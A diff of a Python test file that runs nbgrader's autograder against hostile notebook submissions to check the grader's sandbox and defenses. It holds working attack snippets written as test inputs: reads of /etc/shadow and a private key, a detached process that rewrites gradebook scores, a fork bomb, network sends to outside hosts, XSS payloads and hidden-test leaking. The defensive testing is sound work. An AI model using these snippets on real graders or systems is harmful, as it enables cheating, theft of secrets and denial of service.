@@ -1,54 +1,70 @@
-"""nbgrader end to end against hostile submissions, for every lab and every graded quiz.
+"""nbgrader end to end against hostile submissions: every lab, the sandbox, and the graded quiz.
 
-Each assignment gets a temporary course directory configured by its own nbgrader_config.py (root and gradebook
-moved there). The real pipeline runs once per assignment: generate_assignment, one submission per student below,
-NbGraderAPI.autograde for each, generate_feedback for all, and the CSV export; the tests then read the gradebook,
-the autograded notebooks and the timings. Assignments are graded in parallel worker processes (one course each,
-so the SQLite gradebooks never see two writers), which keeps the whole file at two to three minutes on two
-cores.
+Each job is one temporary nbgrader course configured by the repository's own config (nbgrader_config.py for the
+labs, quizzes/graded/nbgrader_config.py for the quiz; root and gradebook moved there). The real pipeline runs
+once per job: generate_assignment, one submission per student below, NbGraderAPI.autograde for each,
+generate_feedback for all, the CSV export; the tests then read the gradebook, the autograded notebooks and the
+feedback. Jobs run in parallel worker processes (one course each, so no SQLite gradebook sees two writers). The
+student kernels run in the bubblewrap sandbox the config installs (quizzes/grader/sandbox.py): bwrap must be
+installed (.ci/run installs it); without it autograde refuses to run and these tests fail.
 
-Students (what each submission does, and what it must get):
-- solution: the instructor's solution (the quiz's is computed for the student's own id): full marks.
-- release: the release untouched: 0, in bounded time.
+Lab students (every lab; what each submission does, and what it must get):
+- solution: the instructor's solution: full marks. release: the release untouched: 0.
 - partial: the first task answered: exactly that task's points.
-- hang: the solution, with `while True: pass` after the first answer: that cell times out, every later cell is
-  still graded (full marks), and the autograde takes the timeout plus seconds.
-- hang_sigint: the same loop after ignoring SIGINT: the grader kills the kernel, the later cells fail, bounded.
-- os_exit: the solution, leaving with os._exit(0) at the end of the last answer: the tests before it keep their
-  points, the later ones score 0 (nbgrader 0.9.6 alone aborts the student's autograde).
-- kill: the release, killing its own kernel with SIGKILL first thing: 0, graded, with feedback.
-- sys_exit: the release calling sys.exit() and then quit(): 0.
-- showtraceback: the release with IPython's showtraceback silenced (nbgrader's own test_showtraceback_exploit): 0.
-- displayhook: the release printing an execute_result before every cell, which nbgrader takes as partial credit
-  ahead of the error: 0 (ErrorsFailTests in the config).
-- flood: the solution, printing megabytes in one line and in many: output capped, full marks.
-- tamper: the release with its test cells edited, deleted, retyped, relabelled, re-pointed and duplicated, an
-  answer cell claiming 50 points and a bonus cell: every test restored from the gradebook, 0.
-- rebind: the release plus a cell after each locked cell that rebinds what it defined (helpers, imports, the
-  quiz's checker and answers dict) to a do-nothing stand-in: 0 once the hidden tests use their own copies
-  (xfail while a lab's source is not hardened: see harden(); a hardened copy of each such lab is graded too,
-  to show the hardening works before it is applied).
-- transformer: the release with an IPython input transformer that wraps every later cell in try/except. Nothing
-  inside the kernel can stop that; the grader flags the submission for manual review instead.
-Every submission whose student-written code reaches into IPython or the interpreter must be flagged for review;
-the solution, release and partial submissions must not be.
-
-`python tests/test_nbgrader_hostile.py harden NOTEBOOK...` rewrites source notebooks so that their hidden tests
-use the grader's own copies of the locked cells (see harden()).
+- hang: the solution with `while True: pass` after the first answer: that cell times out, the rest score.
+- hang_sigint: the same loop after ignoring SIGINT: the grader kills the kernel, the later cells fail.
+- os_exit / kill: the kernel leaves or is killed: tests before keep their points, later ones fail "not run".
+- sys_exit, showtraceback (nbgrader's own exploit), displayhook (partial credit printed before an error): 0.
+- flood: megabytes printed in many messages: output capped, full marks.
+- tamper: test cells edited, deleted, retyped, relabelled, duplicated, a bonus cell: restored, 0.
+- rebind: a cell after each locked cell rebinds what it defined to an object equal to everything: 0 (the
+  hidden tests use their own copies; tools/harden.py makes them, and every lab must need no hardening).
+- transformer: an IPython input transformer wraps later cells in try/except: flagged for review (the second
+  line: inside the kernel nothing stops it).
+- skip_tags: the release with `skip-execution` and `raises-exception` on every cell: 0, every test cell ran.
+  skip_tags_unstripped: the same, graded without StripExecutionControl: still 0 (a test cell that did not run
+  fails "NotRun").
+Sandbox students (the first lab, one course of their own):
+- snoop: tries to read the source notebooks, the gradebook, the issuer key, the private bank, the grader's home,
+  another student's submission, /etc/shadow, the repository; every read fails; 0.
+- exec_source: reads the source notebook from disk and execs its solutions: it cannot; 0.
+- copy_other: os.chdir into another student's folder and execs their notebook: it cannot; 0.
+- background: a detached process that outlives the kernel and then edits the gradebook: dead with the kernel,
+  the gradebook unchanged.
+- fork_bomb: stopped by the process limit, killed with the kernel, nothing left; 0.
+- alloc_4g: the solution plus a 4 GiB allocation: MemoryError in that cell (the memory limit), full marks.
+- print_200mb: the solution plus a 200 MB print in one call: the message is refused before the grader
+  allocates it (its peak memory grows by far less), the cell fails "OutputTooLarge", full marks.
+- network: connects to a server the grader listens on (127.0.0.1) and to the internet: nothing connects; 0.
+- key_print: prints a private key it somehow holds (the issuer key's PEM, pasted): the feedback has none of it.
+Quiz students (quiz1 built from the sample private bank in tests/fixtures/private_bank with a fresh secret):
+- q_solution: the right answers to the student's own draw, as literals: full marks.
+- q_release: 0. q_partial: the first question of the draw: exactly its points.
+- q_skip_tags: the release with execution-control tags on every cell: 0.
+- q_kernel_cheats: q_partial plus `importlib.reload = lambda m: m`, a patched math.isclose, an assert-stripping
+  AST transformer spelled with getattr and string concatenation, os.chdir into another student's folder and
+  exec of their notebook: exactly q_partial's points (the grader reads literals from the source, in its process).
+- q_key_import: imports quizzes.graded, reads its files, the private bank and the secret wherever it can
+  guess them, and writes what it computed as answers: 0, and none of the key reached its outputs.
+The feedback of every student holds no hidden test, no private key and no course secret.
 """
 
 from __future__ import annotations
 
-import ast
 import copy
 import csv
+import html
 import json
 import os
 import re
+import resource
 import shutil
+import socket
 import sys
+import threading
 import time
 import traceback
+import uuid
 from collections.abc import Callable, Iterator
 from concurrent.futures import ProcessPoolExecutor
 from dataclasses import dataclass, field
@@ -64,25 +80,20 @@ ROOT = Path(__file__).resolve().parent.parent
 LABS_SOURCE = ROOT / "labs" / "source"
 REPO_CONFIG = ROOT / "nbgrader_config.py"
 QUIZ_DIR = ROOT / "quizzes" / "graded"
+QUIZ_CONFIG = QUIZ_DIR / "nbgrader_config.py"
+BANK_FIXTURE = ROOT / "tests" / "fixtures" / "private_bank"
 HANG_TIMEOUT_S = 5  # Execute.timeout for the looping students (the repository's config says 30)
 HANG_GRACE_S = 3  # GuardedExecute.interrupt_grace for them
-IOPUB_TIMEOUT_S = 4  # nbclient's default wait for the output of an interrupted cell
-RELEASE_BUDGET_S = 60  # grading a release whose answers raise at once
-MARKERS = ("BEGIN SOLUTION", "END SOLUTION", "BEGIN HIDDEN TESTS", "END HIDDEN TESTS")
-HIDDEN = re.compile(r"(^[ \t]*### BEGIN HIDDEN TESTS[ \t]*\n)(.*?)(^[ \t]*### END HIDDEN TESTS)", re.S | re.M)
-HIDDEN_PREFIX = "_grader_"  # the hardened hidden tests' names for their copies of locked names
+PRINT_BYTES = 200_000_000
+MAXRSS_GROWTH_KB = 100 * 1024  # the grader's peak memory may grow by this much while grading print_200mb
 # nbgrader's own gradebook code trips SQLAlchemy's session warnings; they say nothing about the submissions
 pytestmark = pytest.mark.filterwarnings("ignore::sqlalchemy.exc.SAWarning")
 
 
-# --- The assignments: one line each ------------------------------------------------------------------------------
+from tools import harden as harden_tool  # noqa: E402  (tools/ is a package; pytest puts the root on the path)
 
-def quiz_solution(assignment: str, student: str) -> NotebookNode:
-    """The graded quiz's reference answers for `student`: its computed questions depend on the submitter's id."""
-    from quizzes.graded import quiz
-    from quizzes.graded.build import build_notebook
-
-    return build_notebook(quiz(assignment), student)
+meta, is_test, is_answer = harden_tool.meta, harden_tool.is_test, harden_tool.is_answer
+HIDDEN, MARKERS = harden_tool.HIDDEN, harden_tool.MARKERS
 
 
 @dataclass(frozen=True)
@@ -90,9 +101,6 @@ class Assignment:
     name: str  # the nbgrader assignment id, also the notebook's name
     source_dir: Path  # the course's source folder: source_dir/<name>/<name>.ipynb
     config: Path  # the nbgrader_config.py an instructor grades it with
-    solution_for: Callable[[str, str], NotebookNode] | None = None  # (assignment, student) -> solution notebook
-    student_names: tuple[str, ...] = ()  # names locked cells bind for the student to fill in (the quiz's answers)
-    hardenable: bool = True  # whether harden() applies (the quiz's hidden tests are generated by quizzes.graded)
 
     @property
     def notebook(self) -> Path:
@@ -101,43 +109,24 @@ class Assignment:
     def source(self) -> NotebookNode:
         return nbformat.read(self.notebook, as_version=4)
 
-    def solution(self, student: str) -> NotebookNode:
-        return self.solution_for(self.name, student) if self.solution_for else self.source()
 
-
-LABS = sorted(p.name for p in LABS_SOURCE.iterdir() if (p / f"{p.name}.ipynb").is_file())
-ASSIGNMENTS = [Assignment(lab, LABS_SOURCE, REPO_CONFIG) for lab in LABS]
-QUIZZES = sorted(p.name for p in (QUIZ_DIR / "source").glob("*") if (p / f"{p.name}.ipynb").is_file())
-ASSIGNMENTS += [Assignment(quiz, QUIZ_DIR / "source", QUIZ_DIR / "nbgrader_config.py", quiz_solution,
-                           student_names=("answers",), hardenable=False) for quiz in QUIZZES]
-BY_NAME = {a.name: a for a in ASSIGNMENTS}
+# the English labs: a translated lab (labs/source/<lab>_vi, _de) is built from its English lab with every graded
+# cell, hidden test and helper identical (course_i18n refuses to build it otherwise), so it defends the same way
+LABS = sorted(p.name for p in LABS_SOURCE.iterdir()
+              if (p / f"{p.name}.ipynb").is_file() and not p.name.endswith(("_vi", "_de")))
+LAB = {lab: Assignment(lab, LABS_SOURCE, REPO_CONFIG) for lab in LABS}
+QUIZ = "quiz1"
+SANDBOX = f"sandbox:{LABS[0]}"  # the job that grades the sandbox's students, on the first lab
 
 
 # --- Notebook helpers ----------------------------------------------------------------------------------------------
-
-def meta(cell: NotebookNode) -> dict:
-    return cell.metadata.get("nbgrader", {})
-
-
-def is_test(cell: NotebookNode) -> bool:
-    return bool(meta(cell).get("grade")) and not meta(cell).get("solution")
-
-
-def is_answer(cell: NotebookNode) -> bool:
-    return bool(meta(cell).get("solution"))
-
-
-def is_locked_helper(cell: NotebookNode) -> bool:
-    """A locked code cell that is not a test: setup, helpers. A student cell after it can shadow what it defines."""
-    return cell.cell_type == "code" and bool(meta(cell).get("locked")) and not meta(cell).get("grade")
-
 
 def points(nb: NotebookNode) -> dict[str, float]:
     return {meta(c)["grade_id"]: float(meta(c)["points"]) for c in nb.cells if meta(c).get("grade")}
 
 
 def group(grade_id: str) -> str:
-    """A task's answers and tests share the grade id's first word: task1_sizes / task1_sizes_tests, q01_*."""
+    """A task's answers and tests share the grade id's first word: task1_sizes / task1_sizes_tests."""
     return grade_id.split("_")[0]
 
 
@@ -162,130 +151,28 @@ def points_before(nb: NotebookNode, cell: NotebookNode) -> float:
     return sum(float(meta(c)["points"]) for c in nb.cells[:index] if meta(c).get("grade"))
 
 
-# --- Locked names, and the hardening of hidden tests ---------------------------------------------------------------
-
-def bound_names(source: str) -> list[str]:
-    """Names a cell binds at its top level: imports, functions, classes, assignments."""
-    names: list[str] = []
-    for node in ast.parse(source).body:
-        if isinstance(node, (ast.Import, ast.ImportFrom)):
-            names += [a.asname or a.name.split(".")[0] for a in node.names if a.name != "*"]
-        elif isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef, ast.ClassDef)):
-            names.append(node.name)
-        elif isinstance(node, (ast.Assign, ast.AnnAssign, ast.AugAssign)):
-            targets = node.targets if isinstance(node, ast.Assign) else [node.target]
-            names += [n.id for t in targets for n in ast.walk(t) if isinstance(n, ast.Name)]
-    return list(dict.fromkeys(names))
+def errors(cell: NotebookNode) -> list[str]:
+    return [o.get("ename", "") for o in cell.get("outputs", []) if o.output_type == "error"]
 
 
-def shadowable(nb: NotebookNode, student_names: tuple[str, ...] = ()) -> dict[int, list[str]]:
-    """Locked helper cell index -> the names it binds that hidden tests must not look up by their public name.
-
-    Names that a test cell or a plain cell binds too (`trace`, `allocator`) are the tests' own variables, bound
-    right before use; names the student is meant to fill in (the quiz's `answers`) are the submission itself.
-    """
-    elsewhere = {name for c in nb.cells if c.cell_type == "code" and not is_locked_helper(c) and not is_answer(c)
-                 for name in bound_names(HIDDEN.sub("", c.source))}
-    return {i: [n for n in bound_names(c.source) if n not in elsewhere and n not in student_names]
-            for i, c in enumerate(nb.cells) if is_locked_helper(c)}
+def text_of(cell: NotebookNode) -> str:
+    parts = []
+    for o in cell.get("outputs", []):
+        parts += [o.get("text", ""), o.get("evalue", ""), *o.get("traceback", [])]
+        parts += [str(v) for v in o.get("data", {}).values()]
+    return "\n".join(parts)
 
 
-def names_used(code: str) -> set[str]:
-    return {n.id for n in ast.walk(ast.parse(code)) if isinstance(n, ast.Name)}
+def html_text(path: Path) -> str:
+    """The text a reader of the feedback HTML sees (tags, highlighting spans and entities removed)."""
+    return html.unescape(re.sub(r"<[^>]+>", "", path.read_text(encoding="utf-8")))
 
 
-def exposed(nb: NotebookNode, student_names: tuple[str, ...] = ()) -> dict[str, list[str]]:
-    """Test cell grade_id -> public names of locked cells that its hidden tests look up (empty when hardened)."""
-    helpers = shadowable(nb, student_names)
-    out = {}
-    for i, cell in enumerate(nb.cells):
-        if is_test(cell):
-            defined = {n for j, names in helpers.items() if j < i for n in names}
-            used = sorted({n for block in HIDDEN.findall(cell.source) for n in names_used(block[1])} & defined)
-            if used:
-                out[meta(cell)["grade_id"]] = used
-    return out
-
-
-def rename(code: str, mapping: dict[str, str]) -> str:
-    """`code` with every name in `mapping` renamed: loads, stores, defs, classes and the names imports bind."""
-    tree = ast.parse(code)
-    lines = code.splitlines(keepends=True)
-    offsets = [0]
-    for line in lines:
-        offsets.append(offsets[-1] + len(line))
-
-    def at(lineno: int, col: int) -> int:  # ast columns count UTF-8 bytes
-        return offsets[lineno - 1] + len(lines[lineno - 1].encode()[:col].decode())
-
-    edits: list[tuple[int, int, str]] = []
-    for node in ast.walk(tree):
-        if isinstance(node, ast.Name) and node.id in mapping:
-            start, end = at(node.lineno, node.col_offset), at(node.end_lineno, node.end_col_offset)
-            if code[start:end] != node.id:  # f-string positions before Python 3.12 can be off: refuse, do not guess
-                raise ValueError(f"cannot locate {node.id!r} at line {node.lineno}")
-            edits.append((start, end, mapping[node.id]))
-        elif isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef, ast.ClassDef)) and node.name in mapping:
-            start = at(node.lineno, node.col_offset)
-            found = re.compile(rf"(def|class)\s+({re.escape(node.name)})\b").search(code, start)
-            edits.append((found.start(2), found.end(2), mapping[node.name]))
-        elif isinstance(node, (ast.Import, ast.ImportFrom)):
-            bound = [a.asname or a.name.split(".")[0] for a in node.names]
-            if any(b in mapping for b in bound):
-                if any("." in a.name and not a.asname for a in node.names if isinstance(node, ast.Import)):
-                    raise ValueError(f"cannot rename a dotted import at line {node.lineno}")
-                statements = []  # one import per name, so that every line stays short
-                for alias, b in zip(node.names, bound, strict=True):
-                    one = copy.deepcopy(node)
-                    one.names = [ast.alias(alias.name, mapping.get(b, alias.asname))]
-                    statements.append(ast.unparse(one))
-                indent = "\n" + " " * node.col_offset
-                edits.append((at(node.lineno, node.col_offset), at(node.end_lineno, node.end_col_offset),
-                               indent.join(statements)))
-        elif isinstance(node, ast.arg) and node.arg in mapping:
-            raise ValueError(f"parameter {node.arg!r} at line {node.lineno} would shadow a renamed name")
-        elif isinstance(node, (ast.Global, ast.Nonlocal)) and set(node.names) & set(mapping):
-            raise ValueError(f"global/nonlocal of a renamed name at line {node.lineno}")
-    for start, end, text in sorted(edits, reverse=True):
-        code = code[:start] + text + code[end:]
-    return code
-
-
-PREAMBLE = ("# The grader's own copy of the locked cells above, under hidden names: a student cell that redefines\n"
-            "# a helper, an import or a constant cannot change what the hidden tests below run.\n")
-
-
-def harden(nb: NotebookNode, student_names: tuple[str, ...] = ()) -> NotebookNode:
-    """Make hidden tests independent of names a student can rebind.
-
-    The first test cell whose hidden tests look up a name defined by a locked helper cell (setup, helpers) gets a
-    hidden block at its top: a copy of the locked cells before it that no earlier test cell copied, every name
-    they bind renamed `_grader_<name>` (imports re-imported under that name). At the top, the copy runs even when
-    the cell's visible asserts fail, so later cells can rely on it. The hidden tests then use the `_grader_`
-    names; the visible tests stay as they are. harden() of a hardened notebook changes nothing.
-    """
-    nb = copy.deepcopy(nb)
-    if exposed(nb, student_names) and HIDDEN_PREFIX in "".join(c.source for c in nb.cells):
-        raise ValueError(f"the notebook already uses names starting with {HIDDEN_PREFIX}: pick another prefix")
-    helpers = shadowable(nb, student_names)
-    bound = {i: bound_names(c.source) for i, c in enumerate(nb.cells) if is_locked_helper(c)}
-    copied: set[int] = set()
-    for i, cell in enumerate(nb.cells):
-        if not is_test(cell):
-            continue
-        use = {n: HIDDEN_PREFIX + n for j, names in helpers.items() if j < i for n in names}
-        if not any(names_used(body) & set(use) for _, body, _ in HIDDEN.findall(cell.source)):
-            continue
-        cell.source = HIDDEN.sub(lambda m, use=use: m.group(1) + rename(m.group(2), use) + m.group(3), cell.source)
-        todo = [j for j in bound if j < i and j not in copied]
-        if todo:
-            if any(set(bound[j]) & set(student_names) for j in todo):
-                raise ValueError("a locked cell binds a name the student fills in: copying it would reset it")
-            everything = {n: HIDDEN_PREFIX + n for j in bound if j < i for n in bound[j]}
-            copies = "\n".join(rename(nb.cells[j].source.rstrip() + "\n", everything) for j in todo)
-            cell.source = f"### BEGIN HIDDEN TESTS\n{PREAMBLE}{copies}### END HIDDEN TESTS\n{cell.source}"
-            copied.update(todo)
-    return nb
+def hidden_only_lines(nb: NotebookNode) -> list[str]:
+    """Lines of the hidden tests that appear nowhere else in the notebook (so their presence means a leak)."""
+    hidden = [line.strip() for c in nb.cells for block in HIDDEN.findall(c.source) for line in block[1].splitlines()]
+    elsewhere = "\n".join(HIDDEN.sub("", c.source) for c in nb.cells)
+    return sorted({line for line in hidden if len(line) >= 20 and line not in elsewhere and not line.startswith("#")})
 
 
 # --- The hostile students --------------------------------------------------------------------------------------------
@@ -327,16 +214,46 @@ for _op in ("lt", "le", "gt", "ge"):
 
 FLOOD_LINE_CHARS = 5_000_000
 FLOOD_LINES = 20_000
+EXECUTION_TAGS = ["skip-execution", "raises-exception"]
 
 
 @dataclass
 class Context:
+    """What a submission is made from. `secrets` are what the attacker would like to reach (paths, the key)."""
+
     assignment: Assignment
-    source: NotebookNode  # what generate_assignment read
+    root: Path  # the course directory
+    source: NotebookNode
     release: NotebookNode
+    token: str  # marks the processes a submission starts, to find survivors
+    port: int = 0  # a TCP server of the grader's, on 127.0.0.1
+    key_path: str = ""
+    key_pem: str = ""
+    bank: str = ""
+    solution_for: Callable[[str], NotebookNode] | None = None
 
     def solution(self, student: str) -> NotebookNode:
-        return self.assignment.solution(student)
+        return self.solution_for(student) if self.solution_for else copy.deepcopy(self.source)
+
+    def targets(self) -> dict[str, str]:
+        """Files and folders no submission may read: name -> path (absolute, or relative to the kernel's folder)."""
+        name = self.assignment.name
+        return {
+            "repository source notebook": str(LABS_SOURCE / name / f"{name}.ipynb") if name in LAB else str(
+                QUIZ_DIR / "source" / name / f"{name}.ipynb"),
+            "course source notebook": str(self.root / "source" / name / f"{name}.ipynb"),
+            "course source, relative": f"../../../source/{name}/{name}.ipynb",
+            "gradebook": str(self.root / "gradebook.db"),
+            "gradebook, relative": "../../../gradebook.db",
+            "issuer key": self.key_path,
+            "private bank": str(BANK_FIXTURE / "quiz1.json"),
+            "course bank": self.bank or str(self.root / "bank"),
+            "grader's home": os.path.expanduser("~"),
+            "another submission": str(self.root / "submitted" / "solution" / name / f"{name}.ipynb"),
+            "another autograded, relative": f"../../solution/{name}/{name}.ipynb",
+            "repository config": str(REPO_CONFIG),
+            "/etc/shadow": "/etc/shadow",
+        }
 
 
 def release_with(ctx: Context, *sources: str) -> NotebookNode:
@@ -344,6 +261,11 @@ def release_with(ctx: Context, *sources: str) -> NotebookNode:
     nb = copy.deepcopy(ctx.release)
     for cell, source in zip([c for c in nb.cells if is_answer(c)], sources, strict=False):
         cell.source = source
+    return nb
+
+
+def appended(nb: NotebookNode, cell: NotebookNode, code: str) -> NotebookNode:
+    cell.source += "\n\n" + code
     return nb
 
 
@@ -367,21 +289,18 @@ def s_partial(ctx: Context, student: str) -> NotebookNode:
 
 def s_hang(ctx: Context, student: str) -> NotebookNode:
     nb = ctx.solution(student)
-    first_answer(nb).source += "\n\nwhile True:  # never returns\n    pass\n"
-    return nb
+    return appended(nb, first_answer(nb), "while True:  # never returns\n    pass\n")
 
 
 def s_hang_sigint(ctx: Context, student: str) -> NotebookNode:
     nb = ctx.solution(student)
-    first_answer(nb).source += ("\n\nimport signal\n\nsignal.signal(signal.SIGINT, signal.SIG_IGN)  # no interrupt\n"
-                                "while True:\n    pass\n")
-    return nb
+    return appended(nb, first_answer(nb), (
+        "import signal\n\nsignal.signal(signal.SIGINT, signal.SIG_IGN)  # no interrupt\nwhile True:\n    pass\n"))
 
 
 def s_os_exit(ctx: Context, student: str) -> NotebookNode:
     nb = ctx.solution(student)
-    last_answer(nb).source += "\n\nimport os\n\nos._exit(0)\n"
-    return nb
+    return appended(nb, last_answer(nb), "import os\n\nos._exit(0)\n")
 
 
 def s_kill(ctx: Context, student: str) -> NotebookNode:
@@ -411,9 +330,8 @@ def s_displayhook(ctx: Context, student: str) -> NotebookNode:
 
 def s_flood(ctx: Context, student: str) -> NotebookNode:
     nb = ctx.solution(student)
-    first_answer(nb).source += (f"\n\nprint('x' * {FLOOD_LINE_CHARS})  # one line of megabytes\n"
-                                f"for _ in range({FLOOD_LINES}):\n    print('y' * 100)\n")
-    return nb
+    return appended(nb, first_answer(nb), (f"print('x' * {FLOOD_LINE_CHARS})  # one line of megabytes\n"
+                                           f"for _ in range({FLOOD_LINES}):\n    print('y' * 100)\n"))
 
 
 def s_tamper(ctx: Context, student: str) -> NotebookNode:
@@ -458,7 +376,7 @@ def s_tamper(ctx: Context, student: str) -> NotebookNode:
 
 def s_rebind(ctx: Context, student: str) -> NotebookNode:
     nb = copy.deepcopy(ctx.release)
-    helpers = shadowable(nb, ())  # the cheat rebinds everything, answers dict included
+    helpers = harden_tool.shadowable(nb, ())  # the cheat rebinds everything
     cells = []
     for i, cell in enumerate(nb.cells):
         cells.append(cell)
@@ -477,26 +395,375 @@ def s_transformer(ctx: Context, student: str) -> NotebookNode:
         "get_ipython().input_transformers_post.append(_swallow)\n"))
 
 
-STUDENTS: dict[str, Callable[[Context, str], NotebookNode]] = {
+def s_skip_tags(ctx: Context, student: str) -> NotebookNode:
+    nb = copy.deepcopy(ctx.release)
+    for cell in nb.cells:
+        cell.metadata["tags"] = list(EXECUTION_TAGS)
+    return nb
+
+
+READ_ALL = '''\
+import os
+
+_targets = {targets!r}
+for _name, _path in _targets.items():
+    try:
+        if os.path.isdir(_path):
+            _got = sorted(os.listdir(_path))
+        else:
+            with open(_path, "rb") as _f:
+                _got = _f.read(300)
+        print("READ", _name, repr(_got)[:300])
+    except Exception as _e:
+        print("DENIED", _name, type(_e).__name__)
+'''
+
+
+def s_snoop(ctx: Context, student: str) -> NotebookNode:
+    nb = release_with(ctx, READ_ALL.format(targets=ctx.targets()))
+    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "unsandboxed, please", "language": "python"}
+    return nb
+
+
+EXEC_NOTEBOOKS = '''\
+import glob, json, os
+
+_found = []
+for _pattern in {patterns!r}:
+    for _path in glob.glob(_pattern):
+        try:
+            with open(_path) as _f:
+                _cells = json.load(_f)["cells"]
+        except Exception as _e:
+            print("DENIED", _path, type(_e).__name__)
+            continue
+        _found.append(_path)
+        for _cell in _cells:
+            if _cell["cell_type"] == "code" and _cell.get("metadata", {{}}).get("nbgrader", {{}}).get("solution"):
+                try:
+                    exec("".join(_cell["source"]), globals())
+                except Exception as _e:
+                    print("exec failed", type(_e).__name__)
+print("FOUND", _found)
+'''
+
+
+def s_exec_source(ctx: Context, student: str) -> NotebookNode:
+    name = ctx.assignment.name
+    patterns = [str(LABS_SOURCE / name / "*.ipynb"), str(ctx.root / "source" / name / "*.ipynb"),
+                f"../../../source/{name}/*.ipynb", "/**/source/*/*.ipynb"]
+    return release_with(ctx, EXEC_NOTEBOOKS.format(patterns=patterns))
+
+
+def s_copy_other(ctx: Context, student: str) -> NotebookNode:
+    name = ctx.assignment.name
+    other = str(ctx.root / "submitted" / "solution" / name)
+    code = (f"import os\n\nfor _where in ('../../solution/{name}', {other!r}):\n"
+            "    try:\n        os.chdir(_where)\n        print('CHDIR', _where)\n        break\n"
+            "    except OSError as _e:\n        print('DENIED', _where, type(_e).__name__)\n")
+    return release_with(ctx, code + EXEC_NOTEBOOKS.format(patterns=["*.ipynb", f"../*/{name}/*.ipynb"]))
+
+
+def s_background(ctx: Context, student: str) -> NotebookNode:
+    # a detached grandchild (new session, parent gone) that waits for the kernel to end, then writes the gradebook
+    child = (f"import os, time, sqlite3  # {ctx.token}\n"
+             "time.sleep(2)\n"
+             f"for p in {[ctx.targets()['gradebook'], '../../../gradebook.db']!r}:\n"
+             "    try:\n"
+             "        db = sqlite3.connect(p)\n"
+             "        db.execute('update grade set auto_score = 1000')\n"
+             "        db.commit()\n"
+             "    except Exception:\n"
+             "        pass\n"
+             "time.sleep(600)\n")
+    code = ("import subprocess, sys\n\n"
+            f"subprocess.Popen([sys.executable, '-c', {child!r}], start_new_session=True,\n"
+            "                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
+            "print('started')\n")
+    return release_with(ctx, code)
+
+
+def s_fork_bomb(ctx: Context, student: str) -> NotebookNode:
+    bomb = (f"import os  # {ctx.token}\n"
+            "while True:\n"
+            "    try:\n"
+            "        os.fork()\n"
+            "    except OSError:\n"
+            "        pass\n")
+    code = ("import subprocess, sys\n\n"
+            "for _ in range(4):\n"
+            f"    subprocess.Popen([sys.executable, '-c', {bomb!r}])\n"
+            f"exec({bomb!r})\n")
+    return release_with(ctx, code)
+
+
+def s_alloc_4g(ctx: Context, student: str) -> NotebookNode:
+    nb = ctx.solution(student)
+    return appended(nb, first_answer(nb), "_big = bytearray(4 * 1024**3)  # 4 GiB, touched by the zeroing\n")
+
+
+def s_print_200mb(ctx: Context, student: str) -> NotebookNode:
+    nb = ctx.solution(student)
+    return appended(nb, first_answer(nb), f"print('x' * {PRINT_BYTES})  # one message of 200 MB\n")
+
+
+def s_network(ctx: Context, student: str) -> NotebookNode:
+    code = ("import socket\n\n"
+            f"for _host, _port in [('127.0.0.1', {ctx.port}), ('1.1.1.1', 53), ('8.8.8.8', 53)]:\n"
+            "    try:\n"
+            "        socket.create_connection((_host, _port), timeout=3).sendall(b'answers')\n"
+            "        print('CONNECTED', _host)\n"
+            "    except OSError as _e:\n"
+            "        print('DENIED', _host, type(_e).__name__)\n")
+    return release_with(ctx, code)
+
+
+def s_key_print(ctx: Context, student: str) -> NotebookNode:
+    return release_with(ctx, f"print({ctx.key_pem!r})\n")
+
+
+INJECT = """\
+from IPython.display import HTML, SVG, Javascript, Markdown, display
+
+display(HTML("<script>alert('INJ1')</script><img src=x onerror=alert('INJ2')>"))
+display(Javascript("alert('INJ3')"))
+display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(\\'INJ4\\')"></svg>'))
+display(Markdown("[click](javascript:alert('INJ5'))"))
+display({"text/plain": "x", "image/png": '"><script>alert(1)</script>'}, raw=True)
+"""
+INJECTED_MARKDOWN = "<script>alert('INJ6')</script>\n\n<a href=\"javascript:alert('INJ7')\">see</a>"
+ACTIVE = re.compile(r"<script[^>]*>[^<]*(?:alert|INJ)|<img[^>]*onerror|<svg[^>]*onload|href=\"?javascript:", re.I)
+
+
+def s_inject(ctx: Context, student: str) -> NotebookNode:
+    """The solution, plus script in every form a cell can display, and a markdown cell of raw HTML."""
+    nb = ctx.solution(student)
+    cell = first_answer(nb)
+    cell.source += "\n\n" + INJECT
+    nb.cells.insert(nb.cells.index(cell) + 1, nbformat.v4.new_markdown_cell(INJECTED_MARKDOWN))
+    return nb
+
+
+LEAK_TESTS = """\
+import functools as _ft, linecache as _lc, sys as _sys, types as _types
+
+
+def _leak(_f):
+    @_ft.wraps(_f)
+    def _w(*a, **k):
+        print("LEAK", "".join(_lc.getlines(_sys._getframe(1).f_code.co_filename)))
+        return _f(*a, **k)
+    _w._leaky = True
+    return _w
+
+
+for _n, _v in list(globals().items()):
+    if isinstance(_v, _types.FunctionType) and not _n.startswith("_") and not getattr(_v, "_leaky", False):
+        globals()[_n] = _leak(_v)
+"""
+
+
+def s_leak_tests(ctx: Context, student: str) -> NotebookNode:
+    """The solution, with every answer wrapping its functions to print the calling test cell's source."""
+    nb = ctx.solution(student)
+    for cell in nb.cells:
+        if is_answer(cell):
+            cell.source += "\n\n" + LEAK_TESTS
+    return nb
+
+
+def s_links(ctx: Context, student: str) -> NotebookNode:
+    """The release, printing (reversed) a notes.txt that links to the issuer key; timestamp.txt links to it too."""
+    return release_with(ctx, "print(open('notes.txt').read()[::-1])\nprint(open('src.json').read()[:300])\n")
+
+
+def f_links(ctx: Context, folder: Path) -> None:
+    (folder / "notes.txt").symlink_to(ctx.key_path)
+    (folder / "timestamp.txt").symlink_to(ctx.key_path)
+    (folder / "src.json").symlink_to(ctx.root / "source" / ctx.assignment.name / f"{ctx.assignment.name}.ipynb")
+
+
+def f_hardlink(ctx: Context, folder: Path) -> None:
+    os.link(ctx.key_path, folder / "notes.txt")
+
+
+def f_link_notebook(ctx: Context, folder: Path) -> None:
+    notebook = folder / f"{ctx.assignment.name}.ipynb"
+    notebook.unlink()
+    notebook.symlink_to(ctx.root / "source" / ctx.assignment.name / notebook.name)
+
+
+def f_link_folder(ctx: Context, folder: Path) -> None:
+    shutil.rmtree(folder)
+    folder.symlink_to(ctx.root / "source" / ctx.assignment.name, target_is_directory=True)
+
+
+def f_fifo(ctx: Context, folder: Path) -> None:
+    os.mkfifo(folder / "data.txt")
+
+
+# what is done to a submission's folder after its notebook is written (the student's links)
+FOLDERS: dict[str, Callable[[Context, Path], None]] = {
